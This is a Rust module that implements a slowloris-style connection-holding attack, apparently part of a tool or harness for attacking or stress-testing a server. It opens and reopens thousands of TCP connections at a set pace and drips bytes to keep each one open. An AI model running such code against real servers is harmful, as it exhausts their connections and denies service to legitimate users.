//! Connections that are opened, and held as long as the server lets them.

use super::{
    attack::{Counts, attacker},
    client::connect,
};
use std::{net::SocketAddr, sync::Arc, time::Duration};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    sync::Mutex,
    task::JoinSet,
    time::{Interval, MissedTickBehavior, interval, sleep},
};

/// How connections are held.
pub(crate) struct Hold {
    /// So many at the same time; one that was closed is opened again.
    pub(crate) connections: usize,
    /// So many are opened in a second, until all are open.
    pub(crate) at_first: u32,
    /// So many of those that were closed are opened again in a second.
    pub(crate) again: u32,
    /// What is sent at first, in turn.
    pub(crate) opening: Vec<Vec<u8>>,
    /// What is sent then, again and again.
    pub(crate) drip: Option<(&'static [u8], Duration)>,
}

impl Default for Hold {
    fn default() -> Self {
        Self { connections: 0, at_first: 4000, again: 200, opening: Vec::new(), drip: None }
    }
}

pub(crate) fn start(hold: Hold, server: SocketAddr, counts: &Counts) -> JoinSet<()> {
    let (hold, mut all) = (Arc::new(hold), JoinSet::new());
    let paces = [Pace::new(hold.at_first), Pace::new(hold.again)].map(Arc::new);
    for number in 0..hold.connections {
        all.spawn(again_and_again(hold.clone(), paces.clone(), number, server, counts.clone()));
    }
    all
}

/// So many in a second, ten at a time: a tick takes a millisecond at least.
struct Pace(Mutex<(Interval, u32)>);

impl Pace {
    fn new(per_second: u32) -> Self {
        let mut pace = interval(Duration::from_secs(10) / per_second.max(10));
        pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
        Self(Mutex::new((pace, 0)))
    }

    async fn turn(&self) {
        let mut turn = self.0.lock().await;
        if turn.1 == 0 {
            turn.0.tick().await;
            turn.1 = 10;
        }
        turn.1 -= 1;
    }
}

async fn again_and_again(
    hold: Arc<Hold>,
    [first, again]: [Arc<Pace>; 2],
    number: usize,
    server: SocketAddr,
    counts: Counts,
) {
    let mut pace = first;
    loop {
        pace.turn().await;
        pace = again.clone();
        counts.attempt();
        if let Ok(mut stream) = connect(attacker(number), server).await {
            hold_one(&hold, number, &mut stream, &counts).await.ok();
        }
    }
}

/// Until it is closed.
async fn hold_one(
    hold: &Hold,
    number: usize,
    stream: &mut TcpStream,
    counts: &Counts,
) -> std::io::Result<()> {
    let (mut reading, mut writing) = stream.split();
    let opening = hold.opening.get(number % hold.opening.len().max(1));
    let write = async {
        writing.write_all(opening.map_or(&[], Vec::as_slice)).await?;
        while let Some((bytes, pause)) = hold.drip {
            sleep(pause).await;
            writing.write_all(bytes).await?;
        }
        std::future::pending().await
    };
    let read = async {
        let mut buffer = [0; 1024];
        while reading.read(&mut buffer).await? > 0 {
            counts.answer();
        }
        Ok(())
    };
    tokio::select! {
        done = write => done,
        done = read => done,
    }
}
